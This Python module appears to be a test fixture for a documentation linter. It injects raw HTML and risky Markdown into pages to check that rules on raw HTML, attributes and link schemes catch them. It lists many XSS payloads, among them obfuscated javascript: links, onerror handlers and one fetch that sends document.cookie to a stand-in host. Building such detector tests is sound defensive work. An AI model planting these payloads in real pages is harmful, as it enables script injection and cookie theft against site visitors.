"""HTML and programs in a text: pasted by somebody who does not know, or by somebody who does."""
from registry import bad_edit
from words import SOMETHING


def pasted(name: str, code: str, *rules: str) -> None:
    """A kind that puts code at the end of a paragraph."""

    def edits(page):
        for block in page.paragraphs:
            yield page.appended(block, " " + code.replace("WORDS", SOMETHING[page.language]))

    edits.__name__, edits.__module__ = name, __name__
    bad_edit(*rules or ("raw-html",), everywhere=name in ("html-script", "javascript-link"))(edits)


PASTED = {
    "script": '<script src="https://www.example.org/x.js"></script>',
    "script-in-capitals": "<SCRIPT>alert(document.cookie)</SCRIPT>",
    "script-with-a-slash": "<script/src=//www.example.org/x.js></script>",
    "script-not-closed": "<script>fetch('https://www.example.org/?' + document.cookie)",
    "frame": '<iframe src="https://www.example.org/video"></iframe>',
    "film-player": '<embed src="https://www.example.org/video">',
    "object": '<object data="https://www.example.org/x.swf"></object>',
    "form": '<form action="https://www.example.org"><input name="email"></form>',
    "button": "<button>WORDS</button>",
    "style": "<style>.md-typeset { display: none }</style>",
    "style-sheet": '<link rel="stylesheet" href="https://www.example.org/x.css">',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://www.example.org">',
    "base": '<base href="https://www.example.org/">',
    "picture-that-runs": '<img src="x" onerror="alert(1)">',
    "drawing-that-runs": '<svg onload="alert(1)"></svg>',
    "formula-that-runs": '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    "coloured-words": '<span style="color: red">WORDS</span>',
    "font-of-old": '<font color="red">WORDS</font>',
    "bold-as-html": "<b>WORDS</b>",
    "underlined": "<u>WORDS</u>",
    "centred": "<center>WORDS</center>",
    "box-as-html": '<div class="admonition warning" markdown>WORDS</div>',
    "folded-text": "<details><summary>WORDS</summary>WORDS</details>",
    "marked-text": "<mark>WORDS</mark>",
    "word-paragraph": '<p class="MsoNormal"><o:p>&nbsp;</o:p>WORDS</p>',
    "word-smart-tag": "<st1:place>WORDS</st1:place>",
    "closing-tag-alone": "WORDS</div>",
    "tag-not-closed": "<div class=",
}
for name, code in PASTED.items():
    pasted(f"html-{name}", code)

pasted("word-remark", "<!--[if gte mso 9]><xml>WORDS</xml><![endif]-->WORDS<![if !supportLists]>")
pasted("remark-not-closed", "<!-- WORDS")
pasted("remark-closed-as-only-browsers-do", "<!-- WORDS --!> WORDS <b>WORDS</b> -->")
pasted("handler-in-allowed-tag", '<sub onclick="alert(1)">2</sub>', "attributes")
pasted("style-in-allowed-tag", '<sup style="position: fixed">2</sup>', "attributes")
pasted("handler-in-attribute-list", "[WORDS](tel:113){ onclick=alert(1) }", "attributes")
pasted("style-in-attribute-list", '[WORDS](tel:113){ style="display:none" }', "attributes")
pasted("javascript-link", "[WORDS](javascript:alert(1))", "link-schemes")
pasted("javascript-link-in-capitals", "[WORDS](JaVaScRiPt:alert(1))", "link-schemes")
pasted("javascript-link-in-entities", "[WORDS](&#106;avascript:alert(1))", "link-schemes")
pasted("javascript-link-in-per-cents", "[WORDS](%6Aavascript:alert(1))", "link-schemes")
pasted("javascript-link-with-a-break-in-it", "[WORDS](java&#10;script:alert(1))", "link-schemes")
pasted("javascript-in-angle-brackets", "[WORDS](<javascript:alert(1)>)", "link-schemes")
pasted("javascript-with-a-title", '[WORDS](javascript:alert(1) "WORDS")', "link-schemes")
pasted("data-link", "[WORDS](data:text/html;base64,PHNjcmlwdD4=)", "link-schemes")
pasted("vbscript-link", "[WORDS](vbscript:msgbox)", "link-schemes")
pasted("link-that-opens-a-program", "[WORDS](ms-word:ofe|u|https://www.example.org/x.docx)", "link-schemes")


@bad_edit("link-schemes")
def javascript_by_reference(page):
    for block in page.paragraphs:
        yield page.inserted(block.position.line + 1, "", f"[{SOMETHING[page.language]}][1]", "", "[1]: javascript:alert(1)",
                            lines=range(block.position.line + 4, block.position.line + 5))


@bad_edit("raw-html", "link-schemes")
def link_as_html_that_runs(page):
    for block in page.paragraphs:
        yield page.appended(block, f' <a href="javascript:alert(1)">{SOMETHING[page.language]}</a>')


@bad_edit("raw-html")
def script_over_several_lines(page):
    for block in page.paragraphs:
        yield page.written_below(block, "<script", "  type='module'>", "  alert(1)", "</script>")


@bad_edit("raw-html")
def script_in_a_list(page):
    for block in page.items:
        yield page.appended(block, " <script>alert(1)</script>")


@bad_edit("raw-html")
def script_in_a_heading(page):
    for section in page.sections:
        line = page.lines[section.position.line - 1]
        yield page.with_line(section.position.line, line.replace(" {#", "<script>alert(1)</script> {#"))


@bad_edit("raw-html")
def tag_in_title(page):
    number = page.header_line("title")
    yield page.with_line(number, "title: '<img src=x onerror=alert(1)> " + page.page.meta.title.replace("'", "’") + "'")


@bad_edit("raw-html")
def tag_in_description(page):
    number = page.header_line("description")
    yield page.with_line(number, page.lines[number - 1].replace(" ", " <b>", 2).replace("<b>", "", 1))


@bad_edit("raw-html")
def box_with_a_script(page):
    for block in page.blocks:
        if block.box:
            yield page.with_line(block.position.line, page.line_of(block) + "<script>alert(1)</script>")
